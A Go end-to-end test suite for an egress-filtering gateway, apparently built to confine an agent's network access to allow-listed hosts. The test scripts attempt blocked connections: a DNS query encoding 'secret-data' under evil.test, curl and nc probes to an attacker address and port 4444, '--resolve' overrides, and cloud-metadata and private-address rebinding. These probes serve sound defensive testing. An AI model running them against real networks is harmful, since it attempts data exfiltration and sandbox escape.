package e2e

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// prelude defines `try NAME CMD...`, which runs CMD quietly and prints
// NAME=EXIT, so one agent script can make many attempts.
const prelude = `try() { n=$1; shift; "$@" >/dev/null 2>&1; echo "$n=$?"; }
`

// Exit codes the assertions read.
const (
	ok            = "0"
	curlNoResolve = "6" // could not resolve host
	// curlRefused matches curl's exits for a connection refused at once:
	// 7 (a reset or ICMP reject at connect), 35 and 56 (reset by the proxy
	// during the TLS handshake or the HTTP exchange). Never 28, a timeout.
	curlRefused = "refused"
)

func (w *world) curl() string {
	return "curl -sS --max-time 5 --cacert " + w.caFile
}

func TestAllowedHostsV4V6(t *testing.T) {
	w := newWorld(t)
	c := w.curl()
	r := w.run(t, []string{"--allow", "allowed.test", "--allow", "www.allowed.test:443"}, prelude+`
try v4 `+c+` -4 https://allowed.test/
try v6 `+c+` -6 https://allowed.test/
try http `+c+` http://allowed.test/
try www `+c+` https://www.allowed.test/
try body sh -c '`+c+` https://allowed.test/ | grep -q "hello from allowed.test"'
`)
	expect(t, r, map[string]string{"v4": ok, "v6": ok, "http": ok, "www": ok, "body": ok})
	if r.code != 0 {
		t.Errorf("exit status %d, want 0", r.code)
	}
	var v4, v6 bool
	for _, c := range w.web.Contacts() {
		v4 = v4 || strings.HasPrefix(c.Remote, "198.18.1.1:")
		v6 = v6 || strings.HasPrefix(c.Remote, "[2001:db8:1::1]:")
	}
	if !v4 || !v6 {
		t.Errorf("web server saw v4=%v v6=%v from the gateway's masqueraded addresses: %+v", v4, v6, w.web.Contacts())
	}
}

func TestWildcardIsNotApex(t *testing.T) {
	w := newWorld(t)
	c := w.curl()
	r := w.run(t, []string{"--allow", "*.allowed.test"}, prelude+`
try sub `+c+` https://www.allowed.test/
try apex `+c+` https://allowed.test/
try lookalike `+c+` https://evilallowed.test/
`)
	expect(t, r, map[string]string{"sub": ok, "apex": curlNoResolve, "lookalike": curlNoResolve})
	if q := w.auth.AskedAbout("allowed.test"); len(q) > 0 {
		for _, name := range q {
			if strings.HasPrefix(name, "allowed.test ") {
				t.Errorf("the apex was asked upstream: %v", q)
			}
		}
	}
}

func TestDeniedNamesNeverReachUpstream(t *testing.T) {
	w := newWorld(t)
	r := w.run(t, []string{"--allow", "allowed.test"}, prelude+`
for q in "evil.test" "TXT c2VjcmV0LWRhdGE.evil.test" "x.allowed.test" "AAAA allowed.test.evil.test" "MX evil.test" "NULL x.evil.test" "HTTPS evil.test"; do
  dig +time=2 +tries=1 @`+gwAddr+` $q | grep -q 'status: NXDOMAIN' ; echo "nx_$(echo $q | tr ' .' '__')=$?"
done
tcp=$(dig +time=2 +tries=1 +tcp +keepopen @`+gwAddr+` allowed.test evil.test x1.evil.test)
echo tcp_allowed=$(echo "$tcp" | grep -c 'status: NOERROR')
echo tcp_denied=$(echo "$tcp" | grep -c 'status: NXDOMAIN')
dig @`+gwAddr+` evil.test | grep -q 'EDE: 15 (Blocked)'; echo ede=$?
try getent getent hosts y.evil.test
`)
	nx := 0
	for k, v := range r.values() {
		if strings.HasPrefix(k, "nx_") {
			nx++
			if v != "0" {
				t.Errorf("%s: not NXDOMAIN", k)
			}
		}
	}
	if nx != 7 {
		t.Errorf("%d denied names checked, want 7", nx)
	}
	expect(t, r, map[string]string{"tcp_allowed": "1", "tcp_denied": "2", "ede": "0", "getent": "2"})
	if q := w.auth.AskedAbout("evil.test"); len(q) > 0 {
		t.Errorf("denied names reached the upstream: %v", q)
	}
	for _, q := range w.auth.Asked() {
		if strings.HasPrefix(q, "x.allowed.test") {
			t.Errorf("subdomain of an exact entry reached the upstream: %s", q)
		}
	}
	if !strings.Contains(r.stderr, "reason=name_not_allowed") {
		t.Errorf("refusals not logged with a reason on stderr")
	}
}

func TestDirectIPAndOtherPorts(t *testing.T) {
	w := newWorld(t)
	c := w.curl()
	r := w.run(t, []string{"--allow", "allowed.test:443"}, prelude+`
try resolve dig +short allowed.test
try allowed `+c+` https://allowed.test/
try port80 `+c+` http://allowed.test/
try ssh nc -z -w 3 `+allowedAddr+` 22
try alt nc -z -w 3 `+allowedAddr+` 8443
try ip443 `+c+` -k https://`+evilAddr+`/
try ip80 `+c+` http://`+evilAddr+`/
try ip4444 nc -z -w 3 `+evilAddr+` 4444
try ip22 nc -z -w 3 `+evilAddr+` 22
try ip6 `+c+` -k https://[`+evilAddr6+`]/
try resolve_override `+c+` -k --resolve allowed.test:443:`+evilAddr+` https://allowed.test/
echo x | nc -u -w 1 `+evilAddr+` 51820; echo x | nc -u -w 1 `+evilAddr+` 123; echo x | nc -u -w 1 `+allowedAddr+` 53
`)
	expect(t, r, map[string]string{
		"allowed": ok, "port80": curlRefused, "ssh": "1", "alt": "1",
		"ip443": curlRefused, "ip80": curlRefused, "ip4444": "1", "ip22": "1", "ip6": curlRefused,
		"resolve_override": curlRefused,
	})
	noContacts(t, "an attacker endpoint or an unlisted port", w.sinkContacts())
	if !strings.Contains(r.stderr, "reason=no_set_entry") {
		t.Errorf("firewall refusals not logged: %s", r.stderr)
	}
}

func TestExternalResolversAreRedirected(t *testing.T) {
	w := newWorld(t)
	r := w.run(t, []string{"--allow", "allowed.test"}, prelude+`
dig +time=2 +tries=1 @`+publicDNS+` x1.evil.test | grep -q 'status: NXDOMAIN'; echo udp=$?
dig +time=2 +tries=1 +tcp @`+publicDNS+` x2.evil.test | grep -q 'status: NXDOMAIN'; echo tcp=$?
dig +time=2 +tries=1 @`+publicDNS+` allowed.test | grep -q '`+allowedAddr+`'; echo allowed=$?
dig +time=2 +tries=1 -6 @`+evilAddr6+` x3.evil.test | grep -q 'status: NXDOMAIN'; echo v6=$?
try port5353 dig +time=2 +tries=1 -p 5353 @`+publicDNS+` x4.evil.test
try dot nc -z -w 3 `+publicDNS+` 853
echo x | nc -u -w 1 `+publicDNS+` 853
`)
	expect(t, r, map[string]string{"udp": "0", "tcp": "0", "allowed": "0", "v6": "0", "port5353": "9", "dot": "1"})
	if q := w.public.Asked(); len(q) > 0 {
		t.Errorf("the public resolver was reached: %v", q)
	}
	if q := w.auth.AskedAbout("evil.test"); len(q) > 0 {
		t.Errorf("denied names reached the upstream: %v", q)
	}
	noContacts(t, "DoT/DoQ endpoints", w.sinkContacts())
	if !strings.Contains(r.stderr, "reason=dot") {
		t.Errorf("DoT refusal not logged")
	}
}

func TestQUICAndICMP(t *testing.T) {
	w := newWorld(t)
	w.inet.Run(t, "nft", "add table inet count; add chain inet count in { type filter hook input priority 0; }; add rule inet count in icmp type echo-request counter; add rule inet count in icmpv6 type echo-request counter")
	r := w.run(t, []string{"--allow", "allowed.test"}, prelude+`
dig +short allowed.test >/dev/null
echo quic | nc -u -w 1 `+allowedAddr+` 443
echo quic | nc -u -w 1 `+evilAddr+` 443
try ping ping -c 1 -W 1 `+evilAddr+`
try ping_allowed ping -c 1 -W 1 `+allowedAddr+`
try ping6 ping -6 -c 1 -W 1 `+evilAddr6+`
`)
	expect(t, r, map[string]string{"ping": "1", "ping_allowed": "1", "ping6": "1"})
	noContacts(t, "a UDP 443 listener", w.sinkContacts())
	if out := w.inet.Run(t, "nft", "list", "table", "inet", "count"); strings.Contains(out, "packets 1") || !strings.Contains(out, "packets 0") {
		t.Errorf("ICMP echo reached the fake internet:\n%s", out)
	}
	if !strings.Contains(r.stderr, "reason=quic") {
		t.Errorf("QUIC refusal not logged")
	}
}

func TestRebindingToPrivateAddresses(t *testing.T) {
	w := newWorld(t)
	c := w.curl()
	r := w.run(t, []string{"--allow", "meta.allowed.test", "--allow", "private.allowed.test", "--allow", "cgnat.allowed.test", "--allow", "gateway.allowed.test"}, prelude+`
echo meta_a=$(dig +short meta.allowed.test | wc -l)
echo meta_aaaa=$(dig +short AAAA meta.allowed.test | wc -l)
echo private=$(dig +short private.allowed.test | wc -l)
echo cgnat=$(dig +short cgnat.allowed.test | wc -l)
echo gateway=$(dig +short gateway.allowed.test | wc -l)
try curl_meta `+c+` http://meta.allowed.test/
try curl_meta_ip `+c+` --resolve meta.allowed.test:80:169.254.169.254 http://meta.allowed.test/
try curl_private `+c+` --resolve private.allowed.test:443:10.0.0.1 https://private.allowed.test/
`)
	expect(t, r, map[string]string{"meta_a": "0", "meta_aaaa": "0", "private": "0", "cgnat": "0", "gateway": "0",
		"curl_meta": curlNoResolve, "curl_meta_ip": curlRefused, "curl_private": curlRefused})
	noContacts(t, "a metadata or private canary", w.sinkContacts())
	if !strings.Contains(r.stderr, "reason=addresses_dropped") {
		t.Errorf("dropped answers not logged")
	}
}

func TestPrivateEntryReachesPrivateAddress(t *testing.T) {
	w := newWorld(t)
	pol := policyFile(t, "  - host: private.allowed.test\n    private: true\n    ports: [80]\n")
	r := w.run(t, []string{"--policy", pol}, prelude+`
echo private=$(dig +short private.allowed.test)
try connect nc -z -w 3 10.0.0.1 80
`)
	expect(t, r, map[string]string{"private": "10.0.0.1", "connect": "0"})
}

// TestPresetIncluded: a policy that includes a preset allows the preset's
// hosts and nothing else; `sluice check` takes it.
func TestPresetIncluded(t *testing.T) {
	w := newWorld(t)
	pol := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(pol, []byte("version: 1\ninclude: [pypi]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(sluiceBin, "check", pol).CombinedOutput(); err != nil {
		t.Fatalf("sluice check of a policy with an include: %v\n%s", err, out)
	}
	c := w.curl()
	r := w.run(t, []string{"--policy", pol}, prelude+`
try index `+c+` https://pypi.org/simple/
try files `+c+` https://files.pythonhosted.org/
try other `+c+` https://allowed.test/
`)
	expect(t, r, map[string]string{"index": ok, "files": ok, "other": curlNoResolve})
}

func TestCNAMEChainAndShortTTL(t *testing.T) {
	w := newWorld(t)
	c := w.curl()
	r := w.run(t, []string{"--allow", "chain.allowed.test", "--allow", "short.allowed.test"}, prelude+`
try chain `+c+` https://chain.allowed.test/
echo ttl=$(dig +noall +answer short.allowed.test | awk '{print $2}')
sleep 3
try late `+c+` --resolve short.allowed.test:443:`+allowedAddr+` https://short.allowed.test/
`)
	expect(t, r, map[string]string{"chain": ok, "ttl": "1", "late": ok})
	for _, q := range w.auth.Asked() {
		if strings.HasPrefix(q, "edge.cdn.test") || strings.HasPrefix(q, "l2.allowed.test") {
			t.Errorf("the gateway queried a chain member by itself: %s", q)
		}
	}
}

func TestGatewayPortsClosed(t *testing.T) {
	w := newWorld(t)
	r := w.runPaused(t, []string{"--allow", "allowed.test"}, prelude+`
echo open4=$(nc -z -w 1 -v `+gwAddr+` 1-65535 2>&1 | grep -c succeeded)
echo open_dns=$(nc -z -w 1 -v `+gwAddr+` 53 2>&1 | grep -c succeeded)
try other_addr nc -z -w 2 198.18.1.1 53
echo open6=$(nc -z -w 1 -v 2001:db8:a::1 1-65535 2>&1 | grep -c succeeded)
set -- $(pause)
ll=$1; shift
echo ll=$ll
echo ll_ports=$(echo "$@" | tr ' ' ,)
llprobe() { out=$(nc -z -v -w 2 $ll%eth0 $2 2>&1); case $out in
  *succeeded*) r=connected;; *refused*|*"Permission denied"*|*prohibited*) r=refused;; *"timed out"*) r=timeout;; *) r=other;; esac
  echo "$1=$r"; }
# The agent's entry for the address may have been made (STALE, no router
# flag) from a packet of the gateway's before this: the first probe then
# waits 5 s before asking, and the flag comes late. Without one, the
# probe's own solicitation is answered by the gateway as a router.
ip -6 neigh del $ll dev eth0 2>/dev/null
llprobe ll_control 53
for p in "$@"; do llprobe ll_$p $p; done
echo ll_router=$(ip -6 neigh show $ll dev eth0 | grep -c " router ")
echo dns_ll=$(dig +time=2 +tries=2 @$ll%eth0 allowed.test | grep -o 'status: [A-Z]*')
`, w.gatewayListeners)
	expect(t, r, map[string]string{"open4": "1", "open_dns": "1", "open6": "1", "other_addr": "0",
		"ll_router": "1", "dns_ll": "status: REFUSED", "ll_control": "connected"})
	if !strings.Contains(r.stderr, "reason=gateway_port") {
		t.Errorf("gateway port refusals not logged")
	}
	// The link-local address: every port sluice listens on in the gateway
	// is refused there too, at once (an ICMPv6 error, since a reset to a
	// link-local source would leave by another link), and journaled. The
	// control on the same path: TCP DNS to that address is redirected to
	// the resolver, and connects.
	v := r.values()
	ll, ports := v["ll"], strings.Split(v["ll_ports"], ",")
	if !strings.HasPrefix(ll, "fe80:") || len(ports) < 2 {
		t.Fatalf("gateway link-local address %q, listening ports %v: want an address and at least the resolver's and the proxy's ports", ll, ports)
	}
	for _, p := range ports {
		if got := v["ll_"+p]; got != "refused" {
			t.Errorf("port %s at the gateway's link-local address: %q, want refused", p, got)
		}
		if want := "reason=gateway_port dst=[" + ll + "]:" + p + " "; !strings.Contains(r.stderr, want) {
			t.Errorf("no refusal %q journaled", want)
		}
	}
}

// gatewayListeners returns the link-local address of the gateway's end of
// the agent's link (the one link of the gateway namespace besides lo and
// g1, the link to the fake internet), then the TCP ports listened on in
// the gateway namespace, separated by spaces.
func (w *world) gatewayListeners() (string, error) {
	out, err := exec.Command("ip", "netns", "exec", w.gw.Name, "ip", "-6", "-o", "addr", "show", "scope", "link").CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%v: %s", err, out)
	}
	var found []string
	for _, line := range strings.Split(string(out), "\n") {
		f := strings.Fields(line)
		if len(f) < 4 || f[2] != "inet6" || f[1] == "lo" || f[1] == "g1" || strings.HasPrefix(f[1], "g1@") {
			continue
		}
		addr, _, _ := strings.Cut(f[3], "/")
		found = append(found, addr)
	}
	if len(found) != 1 {
		return "", fmt.Errorf("want one link-local address on the agent's link, found %v in\n%s", found, out)
	}
	out, err = exec.Command("ip", "netns", "exec", w.gw.Name, "ss", "-Hltn").CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%v: %s", err, out)
	}
	for _, line := range strings.Split(string(out), "\n") {
		if f := strings.Fields(line); len(f) >= 4 {
			found = append(found, f[3][strings.LastIndex(f[3], ":")+1:])
		}
	}
	return strings.Join(found, " "), nil
}

func TestExitStatusAndSignals(t *testing.T) {
	w := newWorld(t)
	if r := w.run(t, nil, "exit 7"); r.code != 7 {
		t.Errorf("exit status %d, want 7", r.code)
	}
	if r := w.run(t, nil, "kill -KILL $$"); r.code != 128+9 {
		t.Errorf("killed command: exit status %d, want 137", r.code)
	}
	if r := w.run(t, nil, "exec /nonexistent/command"); r.code == 0 {
		t.Errorf("missing command: exit status 0")
	}

	for _, sig := range []string{"TERM", "INT"} {
		ready := filepath.Join(t.TempDir(), "ready")
		args := append(append([]string{"netns", "exec", w.gw.Name, sluiceBin}, sluiceArgs()...), "--", "sh", "-c",
			"trap 'echo got-"+sig+"; exit 42' "+sig+"; touch "+ready+"; while :; do sleep 0.05; done")
		cmd := exec.Command("ip", args...)
		var out strings.Builder
		cmd.Stdout, cmd.Stderr = &out, &out
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		waitFor(t, func() bool { _, err := os.Stat(ready); return err == nil })
		// ip execs sluice in place, so its pid is sluice's.
		exec.Command("kill", "-"+sig, fmt.Sprint(cmd.Process.Pid)).Run()
		err := cmd.Wait()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		}
		if code != 42 || !strings.Contains(out.String(), "got-"+sig) {
			t.Errorf("SIG%s: exit %d, output %q; want the command to get the signal and exit 42", sig, code, out.String())
		}
		w.assertClean(t)
	}
}

// runPaused runs script like run; the script calls `pause` once (as in
// x=$(pause)), and the run waits there while between runs in the test,
// with the agent and its gateway up; pause then prints between's result.
// between must not call t's methods: it runs on another goroutine.
func (w *world) runPaused(t *testing.T, flags []string, script string, between func() (string, error)) result {
	t.Helper()
	dir := t.TempDir()
	paused, resume := filepath.Join(dir, "paused"), filepath.Join(dir, "resume")
	pause := `pause() { touch ` + paused + `; i=0; while [ ! -e ` + resume + ` ]; do i=$((i+1)); [ $i -gt 600 ] && { echo pause=timeout; exit 99; }; sleep 0.05; done; cat ` + resume + `; }
`
	errc := make(chan error, 1)
	go func() {
		deadline := time.Now().Add(30 * time.Second)
		for {
			if _, err := os.Stat(paused); err == nil {
				break
			}
			if time.Now().After(deadline) {
				errc <- errors.New("the script never paused")
				return
			}
			time.Sleep(20 * time.Millisecond)
		}
		out, err := between()
		if werr := os.WriteFile(resume+".tmp", []byte(out), 0o644); werr == nil {
			werr = os.Rename(resume+".tmp", resume)
			err = errors.Join(err, werr)
		} else {
			err = errors.Join(err, werr)
		}
		errc <- err
	}()
	r := w.run(t, flags, pause+script)
	if err := <-errc; err != nil {
		t.Fatalf("while the run was paused: %v", err)
	}
	return r
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition not met within 20 s")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestAnswerReleasedAfterSetUpdate: a client that connects the instant it
// gets an answer is never refused (invariant 2). Every query is a new name
// with a new address, so every answer needs a fresh set element.
func TestAnswerReleasedAfterSetUpdate(t *testing.T) {
	w := newWorld(t)
	// Every name is new: the budget of new names is turned off.
	pol := policyFile(t, "  - host: \"*.synth.test\"\n    ports: [81]\n    max_new_names: 0\n")
	r := w.run(t, []string{"--policy", pol},
		dnsloadBin+" -server "+gwAddr+":53 -names 'n%07d.synth.test.' -unique -count 0 -c 4 -connect 81 -d 2s")
	var answers, connects, refused int
	i, j := strings.Index(r.stdout, "answers="), strings.Index(r.stdout, "connects=")
	if i < 0 || j < 0 {
		t.Fatalf("dnsload printed no answers=/connects= line: %q", r.stdout)
	}
	fmt.Sscanf(r.stdout[i:], "answers=%d", &answers)
	fmt.Sscanf(r.stdout[j:], "connects=%d refused=%d", &connects, &refused)
	if connects < 100 || refused != 0 {
		t.Errorf("%d answers, %d immediate connections, %d refused; want many and none refused", answers, connects, refused)
	}
}
